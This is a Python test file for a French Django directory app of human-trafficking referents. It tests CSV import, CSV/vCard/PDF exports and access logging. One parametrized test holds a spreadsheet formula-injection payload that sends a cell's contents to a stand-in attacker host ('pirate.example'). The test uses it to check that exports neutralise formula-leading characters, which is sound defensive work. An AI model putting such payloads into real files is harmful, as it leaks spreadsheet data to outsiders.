"""Import CSV (aperçu, erreurs ligne par ligne, tout ou rien) et exports (CSV, vCard, PDF)."""

import csv
import io
import subprocess

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from accounts.models import AccessAction, AccessLog
from directory.exchange import COLUMNS, LABEL_COLUMNS
from directory.services import import_entries
from referents.enums import ReferentCategory, Theme
from referents.models import DirectoryEntry
from tests.referents.factories import DirectoryEntryFactory

pytestmark = pytest.mark.django_db

HEADER = "organisation;categorie;intitule;territoires;thematiques;email_generique;publiee\n"
GOOD = "Association Accueil Paris;association;Permanence juridique;75;teh|mineurs;accueil@asso.example.org;oui\n"


def test_dry_run_previews_without_writing(world):
    preview = import_entries(content=(HEADER + GOOD).encode(), by=world.acting("association_admin"))
    assert not preview.has_errors
    assert [row.line for row in preview.rows] == [2]
    assert not DirectoryEntry.objects.exists()


def test_a_valid_file_is_imported(world):
    preview = import_entries(content=(HEADER + GOOD).encode(), by=world.acting("association_admin"), dry_run=False)
    assert preview.created == 1
    entry = DirectoryEntry.objects.get()
    assert entry.organisation == world.association
    assert entry.themes == [Theme.TEH, Theme.MINEURS]
    assert entry.is_public
    assert list(entry.territories.values_list("code", flat=True)) == ["75"]


def test_errors_are_reported_line_by_line_and_nothing_is_written(world):
    content = (
        HEADER
        + GOOD
        + "Association Accueil Paris;magicien;Fiche 3;75;;;non\n"
        + "Solidarités Nord;association;Fiche 4;99;;pas-une-adresse;peut-être\n"
    )
    preview = import_entries(content=content.encode(), by=world.acting("association_admin"), dry_run=False)
    assert preview.has_errors
    errors = {row.line: row.errors for row in preview.error_rows}
    assert list(errors) == [3, 4]
    assert "« categorie » : « magicien » n'est pas une catégorie" in errors[3][0]
    assert any("Solidarités Nord" in error and "vous n'en gérez pas" in error for error in errors[4])
    assert any("territoire(s) inconnu(s) 99" in error for error in errors[4])
    assert any("« publiee » : « peut-être »" in error for error in errors[4])
    assert not DirectoryEntry.objects.exists()


def test_an_invalid_email_is_reported_with_its_field_name(world):
    content = HEADER + GOOD.replace("accueil@asso.example.org", "pas-une-adresse")
    preview = import_entries(content=content.encode(), by=world.acting("association_admin"), dry_run=False)
    [error] = preview.error_rows[0].errors
    assert error.startswith("« adresse électronique générique » : ")
    assert not DirectoryEntry.objects.exists()


def test_missing_columns_and_bad_encoding_are_file_errors(world):
    by = world.acting("miprof_admin")
    assert "territoires" in import_entries(content=b"organisation;categorie;intitule\n", by=by).file_errors[0]
    assert "UTF-8" in import_entries(content="intitulé;é\n".encode("latin-1"), by=by).file_errors[0]


def test_import_page_shows_the_preview_then_imports_on_confirmation(world, client_as):
    client = client_as("association_admin")
    upload = SimpleUploadedFile("fiches.csv", (HEADER + GOOD).encode(), content_type="text/csv")
    response = client.post(reverse("directory:entry_import"), {"file": upload})
    assert response.status_code == 200
    assert "Aperçu : 1 fiche prête à importer" in response.content.decode()
    assert not DirectoryEntry.objects.exists()
    response = client.post(
        reverse("directory:entry_import"), {"content": response.context["confirm"].initial["content"]}
    )
    assert response.status_code == 302
    assert DirectoryEntry.objects.get().title == "Permanence juridique"
    assert AccessLog.objects.filter(view_name="directory:entry_import", action=AccessAction.CREATE).exists()


def test_import_page_lists_errors_by_line(world, client_as):
    upload = SimpleUploadedFile("fiches.csv", (HEADER + GOOD + ";;;\nX;association;Y;75;;;\n").encode())
    response = client_as("association_admin").post(reverse("directory:entry_import"), {"file": upload})
    content = response.content.decode()
    assert "rien n'a été importé" in content
    assert "<td>4</td>" in content
    assert response.context["confirm"] is None


def test_csv_export_has_the_import_columns_and_round_trips(world, client_as):
    DirectoryEntryFactory(
        organisation=world.association, title="Permanence", themes=[Theme.TEH], territories=[world.paris, world.nord]
    )
    response = client_as("association_admin").get(reverse("directory:directory_search_export"))
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert [column for column in rows[0] if column not in LABEL_COLUMNS.values()] == [column for column, _ in COLUMNS]
    row = dict(zip(rows[0], rows[1], strict=True))
    assert [row[name] for name in ("organisation", "categorie", "intitule", "territoires")] == [
        "Association Accueil Paris",
        "association",
        "Permanence",
        "59|75",
    ]
    assert AccessLog.objects.filter(action=AccessAction.EXPORT).exists()
    preview = import_entries(content=response.content, by=world.acting("association_admin"))
    assert not preview.has_errors


def test_vcard_carries_the_contacts(world, client_as):
    entry = DirectoryEntryFactory(
        organisation=world.association,
        title="Référent TEH; parquet",
        holder_name="Camille Martin",
        public_phone="01 99 00 00 01",
        on_call_phone="01 99 00 00 99",
        public_email="teh@parquet.example.org",
    )
    response = client_as("association_agent").get(reverse("directory:entry_vcard", args=[entry.public_id]))
    assert response["Content-Type"].startswith("text/vcard")
    text = response.content.decode()
    assert text.startswith("BEGIN:VCARD\r\nVERSION:4.0\r\n")
    assert "FN:Camille Martin\r\n" in text
    assert "TITLE:Référent TEH\\; parquet\r\n" in text
    assert "ORG:Association Accueil Paris\r\n" in text
    assert "EMAIL;TYPE=work:teh@parquet.example.org\r\n" in text
    assert "TEL;TYPE=work,voice;VALUE=uri:tel:0199000099" in text
    assert text.endswith("END:VCARD\r\n")
    assert AccessLog.objects.for_object(entry).get().action == AccessAction.DOWNLOAD


def test_pdf_directory_of_a_departement_lists_its_entries(world, client_as):
    DirectoryEntryFactory(
        title="Magistrate référente TEH", category=ReferentCategory.MAGISTRAT_REFERENT_TEH, territories=[world.nord]
    )
    DirectoryEntryFactory(title="Fiche de Paris", territories=[world.paris])
    response = client_as("association_agent").get(reverse("directory:territory_pdf", args=["59"]))
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")
    text = subprocess.run(
        ["pdftotext", "-", "-"], input=response.content, capture_output=True, check=True
    ).stdout.decode()
    assert "Annuaire des référents TEH – Nord (59)" in text
    assert "Magistrate référente TEH" in text
    assert "Fiche de Paris" not in text


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_export_neutralises_formula_starts_and_the_import_restores_them(world, client_as, start):
    title = f'{start}HYPERLINK("https://pirate.example/?x="&A1)'
    DirectoryEntryFactory(organisation=world.association, title=title, themes=[Theme.TEH], territories=[world.paris])
    response = client_as("association_admin").get(reverse("directory:directory_search_export"))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][rows[0].index("intitule")] == "'" + title
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    preview = import_entries(content=response.content, by=world.acting("association_admin"))
    assert preview.rows[0].values["intitule"] == title.strip()


def test_csv_export_gives_words_next_to_each_coded_column(world, client_as):
    DirectoryEntryFactory(
        organisation=world.association,
        category=ReferentCategory.ASE_CRIP,
        title="Cellule départementale",
        themes=[Theme.TEH, Theme.PROXENETISME],
        languages=["en", "fr"],
        territories=[world.paris],
    )
    response = client_as("association_admin").get(reverse("directory:directory_search_export"))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    header = rows[0]
    row = dict(zip(header, rows[1], strict=True))
    # Chaque colonne de codes est précédée de la colonne de ses libellés.
    for codes, labels in LABEL_COLUMNS.items():
        assert header.index(labels) == header.index(codes) - 1
    assert (row["categorie_libelle"], row["categorie"]) == (ReferentCategory.ASE_CRIP.label, "ase_crip")
    assert row["thematiques_libelles"] == "Traite des êtres humains, Proxénétisme"
    assert row["thematiques"] == "teh|proxenetisme"
    assert row["langues_libelles"] == "Anglais, Français"
    assert row["territoires_libelles"] == "Paris (75)"
